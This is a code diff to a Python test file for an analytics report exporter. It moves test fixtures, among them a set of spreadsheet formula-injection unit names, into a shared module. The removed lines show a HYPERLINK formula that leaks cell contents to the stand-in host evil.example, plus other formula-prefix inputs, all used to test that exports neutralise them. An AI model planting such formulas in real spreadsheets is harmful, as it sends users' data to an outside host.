@@ -20,77 +20,13 @@ from pptx import Presentation
 from pptx.enum.chart import XL_CHART_TYPE
 from pptx.enum.shapes import MSO_SHAPE_TYPE
 
-from analytics import periods
-from analytics.reports.deck import DeckError, Scope, SlideSpec, build_deck, deck_text, load_source, parse_deck, thin
+from analytics.reports.deck import DeckError, Scope, SlideSpec, build_deck, deck_text, parse_deck, thin
 from analytics.reports.export import render
 from analytics.reports.xlsx import is_formula_like
-from analytics.store.batches import commit
-from analytics.store.connection import connect
-from analytics.store.metrics import metric_ids
-from analytics.store.units import save_units
-from tests.cli.test_cli import cli
-from tests.fixtures import MARK
+from analytics.services.exports import load_source
+from tests.fixtures import FULL_DECK, HOSTILE, MARK, cli
 
 ROOT = Path(__file__).resolve().parents[2]
-
-
-FIRST = periods.to_index(2025, 11)
-
-
-MONTHS = 12
-
-
-HOSTILE = {  # unit names a spreadsheet would run as formulas
-    "X1": '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
-    "X2": "+1+1",
-    "X3": "-2+3",
-    "X4": "@SUM(1,2)",
-}
-
-
-PLAIN = {"B13": "三电厂", "B14": "四电厂", "B23": "五电厂", "B24": "六电厂"}  # 12 units: clustered tests need 10
-
-
-PARTY = ("heart_talks", "three_meetings_rate", "vanguard_posts")
-
-
-BUSINESS = ("revenue", "quality_pass_rate", "total_profit")
-
-
-FULL_DECK = "kpis,ranking,quadrant,heatmap,findings,scatter:heart_talks~revenue,lag:heart_talks~revenue,unit:B12"
-
-
-def _values(rng: np.random.Generator, size: float, t: int) -> dict[str, float]:
-    talks = float(rng.poisson(20 * size))
-    return {
-        "heart_talks": talks,
-        "three_meetings_rate": float(np.clip(90 + rng.normal(0, 3), 0, 100)),
-        "vanguard_posts": float(rng.integers(3, 12)),
-        "revenue": round(1000 * size + 40 * talks + rng.normal(0, 60), 2),  # planted: talks move with revenue
-        "quality_pass_rate": float(np.clip(96 + rng.normal(0, 1), 0, 100)),
-        "total_profit": round(80 * size + rng.normal(0, 10) + t, 2),
-    }
-
-
-@pytest.fixture
-def filled(db: Path) -> Path:
-    """The small registry plus four branches with formula-like names and four plain ones; 12 months of six metrics
-    for twelve units."""
-    extra = [{"code": code, "name": name, "parent_code": "S2", "headcount": 100.0} for code, name in HOSTILE.items()]
-    extra += [{"code": code, "name": name, "parent_code": "S1", "headcount": 200.0} for code, name in PLAIN.items()]
-    rng = np.random.default_rng(7)
-    with connect(db) as con:
-        save_units(con, extra)
-        uid = dict(con.execute("SELECT code, uid FROM units").fetchall())
-        mid = metric_ids(con)
-        rows = []
-        for i, unit in enumerate(("B11", "B12", "B21", "B22", *HOSTILE, *PLAIN)):
-            for t in range(MONTHS):
-                for metric, value in _values(rng, 1 + i / 4, t).items():
-                    rows.append((uid[unit], FIRST + t, mid[metric], value))
-        staged = pd.DataFrame(rows, columns=["uid", "period", "mid", "value"])
-        commit(con, staged, [], "test")
-    return db
 
 
 @pytest.fixture
